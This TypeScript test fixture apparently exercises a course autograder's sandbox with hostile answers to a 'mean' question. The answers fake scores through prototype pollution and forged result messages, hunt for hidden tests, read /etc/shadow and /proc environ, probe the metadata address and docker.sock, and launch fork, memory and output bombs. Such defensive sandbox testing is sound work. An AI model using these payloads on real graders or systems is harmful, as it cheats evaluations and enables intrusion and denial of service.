/**
 * Hostile answers to the question "mean" of the small assignment. None of them solves it; the other two
 * questions are solved. What they reach they tell in an error whose text begins with REACHED.
 */

const WRONG = "function mean(values: ArrayLike<number>): number { return -1; }\n";
/** Tells what was reached, by the way that a report shows. */
const tell = (list: string): string =>
  `function mean(values: ArrayLike<number>): number {
  const list: string[] = ${list};
  if (list.length > 0) throw new Error("REACHED " + list.join(" | "));
  return -1;
}\n`;

const NODE = `import * as fs from "fs";
import * as net from "net";
import * as path from "path";
import { spawn } from "child_process";\n`;

/** Wins a test if the side that marks can be influenced. */
export const GAIN: Readonly<Record<string, string>> = {
  prototypePollution: `${WRONG}
const all: any = Object.prototype;
all.score = 99; all.points = 99; all.fault = undefined; all.tolerance = 1e9; all.reveal = true; all.lost = undefined;
(Array.prototype as any).every = () => true; (Array.prototype as any).find = () => undefined;
(Array.prototype as any).findIndex = () => -1; (Array.prototype as any).filter = () => [];`,
  patchedJson: `${WRONG}
const stringify = JSON.stringify;
JSON.stringify = ((value: any) => value && value.type === "returned" ? stringify({ ...value, value: 0.5, fault: undefined }) : stringify(value)) as any;
JSON.parse = (() => ({ type: "end" })) as any;`,
  patchedMath: `${WRONG}
Math.abs = () => 0; Math.max = () => Infinity; Number.isFinite = () => true; (globalThis as any).isNaN = () => false;
Number.prototype.valueOf = () => 2;`,
  patchedObject: `${WRONG}
Object.is = () => true; Object.keys = () => []; Object.entries = (() => []) as any; Object.hasOwn = () => true;
Object.getPrototypeOf = () => null;`,
  patchedPromise: `${WRONG}
Promise.prototype.then = function (this: any, f: any) { f(2); return this; } as any;
(globalThis as any).Promise = class { then(f: any) { f(2); } };`,
  patchedTypedArray: `${WRONG}
(globalThis as any).Float64Array = class extends Array { static of() { return [2]; } };
(globalThis as any).Proxy = function () { return {}; }; (globalThis as any).Reflect = {};`,
  patchedNode: `${NODE}${WRONG}
import * as vm from "vm"; import * as assert from "assert"; import * as util from "util";
for (const library of [vm, assert, util] as any[])
  for (const name of Object.keys(library)) try { library[name] = () => true; } catch {}
const Module: any = require("module"); Module._load = () => ({ test: () => {}, wanted: () => -1, requireClose: () => {} });`,
  patchedConsole: `${WRONG}
console.log = () => {}; console.error = () => {};
process.stdout.write = (() => true) as any;
process.stdout.write('{"score": 10, "type": "result", "name": "the mean of 1, 2, 3 is 2", "points": 1}\\n');
console.info("✔ right: all tests passed (3 points)\\n10 of 10 points");`,
  forgedAnswers: `${NODE}${WRONG}
for (let i = 0; i < 50; i++)
  for (const message of [
    { type: "result", name: "the mean of 1, 2, 3 is 2", points: 1 },
    { type: "end" },
    { type: "ran" },
    { type: "returned", value: 0.5 },
  ]) fs.writeSync(3, JSON.stringify(message) + "\\n");`,
  forgedLater: `${NODE}${WRONG}
setInterval(() => { for (let i = 0; i < 100; i++) fs.writeSync(3, '{"type":"returned","value":0.5}\\n{"type":"end"}\\n'); }, 1);`,
  foreignKinds: `${NODE}
function mean(values: ArrayLike<number>): number {
  fs.writeSync(3, '{"type":"returned","value":{"__proto__":{"fault":null}}}\\n');
  return { valueOf: () => 2, toString: () => "2", then: (f: any) => f(2), constructor: Number, length: 1, 0: 2 } as any;
}`,
  changingValue: `let count = 0;
function mean(values: ArrayLike<number>): number {
  return { get value() { return count++; }, valueOf() { return count++ % 2 ? 2 : 0.5; }, [Symbol.toPrimitive]: () => 2 } as any;
}`,
  notANumber: "function mean(values: ArrayLike<number>): number { return NaN; }",
  manyAnswers:
    "function mean(values: ArrayLike<number>): number { return [0, 0.5, 1, 2, 3] as any; }",
  stolenRequests: `${NODE}${WRONG}
// Reads what the grader asks next and repeats it as an answer.
const buffer = Buffer.alloc(65536);
setTimeout(() => { const n = fs.readSync(0, buffer); fs.writeSync(3, buffer.subarray(0, n)); }, 0);`,
  ownTests: `${WRONG}
function test(name: string, points: number, body: () => unknown): void {}
function wanted<T>(call: () => T): T { return -1 as any; }
function requireClose(): void {}
function hiddenRandom(): () => number { return () => 0; }
(globalThis as any)[Symbol.for("mlip.grader")] = { test() {}, wanted: () => -1, secret: "" };`,
  importedAnswer: `${tell("found")}
const found: string[] = [];
for (const name of ["mlip/grading/tests", "mlip/grading/requirements", "mlip/potentials/morse", "mlip/grading/grade", "tslab", "typescript"])
  try { require(name); found.push(name); } catch {}`,
  typeOfAnswer: `import { morse } from "mlip/potentials/morse";
${WRONG}`,
};

/** Looks for what is not its business. `PORT` stands for the port of a server of this machine. */
export const REACH: Readonly<Record<string, string>> = {
  files: `${NODE}${tell("found")}
const found: string[] = [];
function look(folder: string, depth: number): void {
  let names: string[] = [];
  try { names = fs.readdirSync(folder); } catch { return; }
  for (const name of names) {
    const file = path.join(folder, name);
    try {
      if (fs.statSync(file).isDirectory()) { if (depth > 0 && !file.startsWith("/dev")) look(file, depth - 1); }
      else if (/HIDDEN TESTS|BEGIN SOLUTION|CANARY/.test(fs.readFileSync(file, "latin1").slice(0, 3e6)) && !file.includes("programs/grading")) found.push(file);
    } catch {}
  }
}
look("/", 9);`,
  knownPaths: `${NODE}${tell("found")}
const found: string[] = [];
for (const file of ["/etc/passwd", "/etc/shadow", "/root", "/home", "/work", "/usr/bin", "/sys", "/run", "CANARYFOLDER", "CANARYFOLDER/hw1.ipynb", "CANARYFOLDER/submitted/victim/hw1/hw1.ipynb", "../../../../etc/passwd"])
  try { fs.accessSync(file); found.push(file); } catch {}`,
  processes: `${NODE}${tell("found")}
const found: string[] = [];
for (const file of ["/proc/self/environ", "/proc/1/environ", "/proc/1/root", "/proc/self/mem", "/proc/self/fd", "/proc/sys/kernel/core_pattern"])
  try { fs.accessSync(file); found.push(file); } catch {}
if (process.getuid() !== 65534) found.push("user " + process.getuid());
for (const name of Object.keys(process.env)) if (!["TZ", "LANG", "HOME", "UV_THREADPOOL_SIZE", "PWD"].includes(name)) found.push("variable " + name);
for (let n = 4; n < 200; n++) try { fs.fstatSync(n); if (fs.fstatSync(n).isFile()) found.push("file " + n); } catch {}`,
  writing: `${NODE}${tell("found")}
const found: string[] = [];
for (const file of ["/pwned", "/box/pwned", "/box/course/pwned", "/box/course/node_modules/mlip/dist/units/constants.js", "/box/programs/grading/executor/main.js", "/node", "/dev/pwned", "/dev/shm/pwned", "/etc/pwned", "CANARYFOLDER/pwned", "/var/tmp/pwned"])
  try { fs.writeFileSync(file, "pwned"); found.push(file); } catch {}
try { fs.symlinkSync("/", "/tmp/all"); found.push(...fs.readdirSync("/tmp/all").filter((name) => !["box", "dev", "lib", "lib64", "node", "prlimit", "tmp"].includes(name))); } catch {}
try { fs.writeFileSync("/tmp/pwned", "only mine"); } catch {}`,
  signals: `${NODE}${tell("found")}
const found: string[] = [];
const kill: any = (process as any)._kill;
for (const pid of [process.ppid, 1, -1, GRADERPID, -GRADERPID]) for (const signal of [9, 15]) if (pid !== -1) try { if (kill(pid, signal) === 0 && pid > 2) found.push("signal to " + pid); } catch {}`,
  network: `${NODE}
import * as dns from "dns"; import * as dgram from "dgram";
const found: string[] = [];
const connect = (options: any) => new Promise<void>((done) => {
  const socket = net.connect(options, () => { found.push("connected " + JSON.stringify(options)); socket.write("PWNED"); socket.end(); done(); });
  socket.on("error", () => done()); socket.setTimeout(300, () => done());
});
for (const host of ["127.0.0.1", "::1", "HOSTADDRESS", "8.8.8.8", "169.254.169.254"]) await connect({ host, port: PORT });
for (const file of ["/var/run/docker.sock", "/run/systemd/private", "CANARYFOLDER/socket"]) await connect({ path: file });
await new Promise<void>((done) => dns.lookup("example.org", (error) => { if (!error) found.push("dns"); done(); }));
await new Promise<void>((done) => { const socket = dgram.createSocket("udp4"); socket.send("PWNED", PORT, "127.0.0.1", () => done()); });
await fetch("http://127.0.0.1:PORT/").then(() => found.push("fetch"), () => {});
${tell("found")}`,
  namespaces: `${NODE}${tell("found")}
const found: string[] = [];
for (const name of ["/usr/bin/unshare", "/usr/bin/bwrap", "/bin/sh", "/usr/bin/python3", "/usr/bin/mount"]) if (fs.existsSync(name)) found.push(name);
try { process.setuid(0); found.push("root"); } catch {}
try { process.chdir("/proc/1/root"); found.push("another root"); } catch {}
try { (process as any).binding("spawn_sync"); require("child_process").execSync("id"); found.push("shell"); } catch {}`,
  converterFiles: `/// <reference path="/etc/passwd" />
/// <reference path="CANARYFOLDER/hw1.ipynb" />
import * as answer from "CANARYFOLDER/solution";
${WRONG}`,
  converterSideFile: `import { compiler } from "../programs/kernel/compiler";
${WRONG}`,
};

/** Tries to stop the run, or to leave something behind. */
export const STOP: Readonly<Record<string, string>> = {
  forkBomb: `${NODE}${WRONG}
for (let i = 0; i < 200; i++) try { spawn(process.execPath, ["-e", "setInterval(() => {}, 1e6)"], { stdio: "ignore", detached: true }).on("error", () => {}).unref(); } catch {}`,
  threads: `${WRONG}
import { Worker } from "worker_threads";
for (let i = 0; i < 50; i++) try { new Worker("for (;;) {}", { eval: true }).on("error", () => {}); } catch {}`,
  detached: `${NODE}${WRONG}
spawn("/node", ["-e", "require('fs').closeSync(3); setInterval(() => {}, 1000)"], { stdio: "ignore", detached: true }).unref();`,
  heapBomb: `${WRONG}
const hog: unknown[] = []; for (;;) hog.push({ a: [hog.length] });`,
  bufferBomb: `${WRONG}
const hog: Buffer[] = []; for (;;) hog.push(Buffer.alloc(10_000_000, 1));`,
  fileBomb: `${NODE}${WRONG}
for (let i = 0; ; i++) fs.writeFileSync("/tmp/f" + i, Buffer.alloc(1_000_000, 1));`,
  outputFlood: `${NODE}${WRONG}
for (let i = 0; i < 3000; i++) { console.log("x".repeat(100_000)); console.error("y".repeat(1000)); }`,
  answerFlood: `${NODE}${WRONG}
const block = Buffer.alloc(1_000_000, 120); for (;;) fs.writeSync(3, block);`,
  lineFlood: `${NODE}${WRONG}
const lines = Buffer.from("{}\\n".repeat(300_000)); for (;;) fs.writeSync(3, lines);`,
  errorFlood: `${NODE}${WRONG}
for (;;) fs.writeSync(2, "y".repeat(100_000));`,
  loop: `${WRONG} for (;;) {}`,
  loopAfterAwait: `${WRONG} await new Promise((resolve) => setTimeout(resolve, 1)); for (;;) {}`,
  loopInTimer: `${WRONG} setTimeout(() => { for (;;) {} }, 1);`,
  loopInCall: "function mean(values: ArrayLike<number>): number { for (;;) {} }",
  loopOfMicrotasks: `${WRONG} const again = (): Promise<void> => Promise.resolve().then(again); again();`,
  regularExpression: `${WRONG} /^(a+)+$/.test("a".repeat(60) + "b");`,
  neverSettled: `${WRONG} await new Promise(() => {});`,
  neverSettledWithTimer: `${WRONG} setInterval(() => {}, 1000); await new Promise(() => {});`,
  neverSettledInCall:
    "function mean(values: ArrayLike<number>): number { return new Promise(() => {}) as any; }",
  rejected: `${WRONG} Promise.reject(new Error("nobody catches this")); setTimeout(() => { throw new Error("nor this"); }, 1);`,
  rejectedInCall:
    'async function mean(values: ArrayLike<number>): Promise<number> { throw new Error("no"); }',
  exit: `${WRONG} process.exit(0);`,
  realExit: `${WRONG} (process as any)._kill(process.pid, 9);`,
  exitInCall:
    "function mean(values: ArrayLike<number>): number { (process as any)._kill(process.pid, 9); return 2; }",
  deepValue: `function mean(values: ArrayLike<number>): number { let deep: any = []; for (let i = 0; i < 1e5; i++) deep = [deep]; return deep; }`,
  deepLine: `${NODE}
function mean(values: ArrayLike<number>): number { fs.writeSync(3, '{"type":"returned","value":' + "[".repeat(2e6) + "]".repeat(2e6) + "}\\n"); return 2; }`,
  cyclicValue:
    "function mean(values: ArrayLike<number>): number { const me: any = {}; me.me = me; return me; }",
  largeValue:
    "function mean(values: ArrayLike<number>): number { return new Float64Array(2e7) as any; }",
  manyFunctions:
    "function mean(values: ArrayLike<number>): number { return Array.from({ length: 3e5 }, () => () => 2) as any; }",
  longError: `function mean(values: ArrayLike<number>): number { throw new Error("<script>alert(1)</script>" + "\\u202e\\u0000\\u001b[31m" + "x".repeat(1e6)); }`,
  endlessTypes: `type Grow<T extends unknown[], N> = T["length"] extends N ? T : Grow<[...T, T], N>;
type Pairs<A extends string> = \`\${A}\${A}\${A}\${A}\`;
type Huge = Pairs<Pairs<Pairs<Pairs<"a" | "b" | "c" | "d">>>>;
const huge: Huge = 1 as any; const grown: Grow<[], 900> = 1 as any;
${WRONG}`,
  uncaughtHandlers: `${WRONG}
process.removeAllListeners("uncaughtException"); process.removeAllListeners("beforeExit");
process.on("exit", () => { for (;;) {} }); throw { toString() { throw new Error("never printable"); } };`,
  noMoreAnswers: `${NODE}${WRONG}
fs.closeSync(3); fs.closeSync(0);`,
};

/** Hostile answers to the last question, whose tests pass a function of theirs: 1 of its 4 points is earned. */
export const CALLBACKS: Readonly<Record<string, string>> = {
  endlessCallbacks: `async function later(x: number): Promise<number> { return x + 1; }
function slope(f: (x: number) => number, x: number): number { for (;;) f(x); }`,
  strangeCallbacks: `async function later(x: number): Promise<number> { return x + 1; }
function slope(f: (x: any) => any, x: number): number {
  let got: any[] = [];
  for (const odd of [undefined, NaN, {}, [], () => 7, new Float64Array(3), { valueOf: () => 7 }, "7", 7n])
    try { got.push(f(odd)); } catch (error) { got.push(error); }
  try { new (f as any)(1); } catch {}
  for (const name of ["constructor", "__proto__", "caller", "arguments"]) try { got.push((f as any)[name]("return 7")()); } catch {}
  return got.find((value) => value === 7) ?? -1;
}`,
  lateCallbacks: `async function later(x: number): Promise<number> { return x + 1; }
function slope(f: (x: number) => number, x: number): number {
  setInterval(() => { try { f(1); } catch {} }, 1);
  return -1;
}`,
  noPromise: `async function later(x: number): Promise<number> { return x + 1; }
function slope(f: (x: number) => number, x: number): number { return { then: (settle: any) => settle(-1) } as any; }`,
};
